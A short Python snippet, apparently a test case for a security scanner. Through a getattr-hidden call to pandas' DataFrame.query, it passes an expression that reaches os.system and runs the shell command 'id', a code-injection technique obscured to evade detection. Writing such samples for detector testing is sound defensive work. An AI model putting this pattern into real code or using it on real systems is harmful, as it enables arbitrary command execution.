# getattr with a literal name: the same as df.query, but the call's string is out of sight.
import pandas as pd

df = pd.read_csv("/data/sales.csv")
getattr(df, "query")("@pd.io.common.os.system('id') == 0")
